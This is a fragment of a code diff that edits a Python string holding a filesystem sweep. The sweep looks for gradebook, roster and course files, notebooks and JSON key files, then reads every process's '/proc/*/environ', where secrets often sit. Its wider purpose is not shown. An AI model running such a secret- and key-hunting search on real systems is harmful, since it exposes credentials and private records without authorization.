@@ -362,7 +362,7 @@ slope(
     "seen = []\n"
     "for top, folders, files in os.walk('/'):\n"
     "    if top.startswith(('/proc', '/sys', '/usr', '/lib')) or 'site-packages' in top:\n"
-    "        continue\n"
+    "        folders.clear()\n        continue\n"
     "    seen += [f for f in files if f in ('gradebook.db', 'course.toml', 'roster.csv')\n"
     "             or f.endswith('.ipynb') or (top.endswith('/keys') and f.endswith('.json'))]\n"
     "for path in glob.glob('/proc/*/environ'):\n"
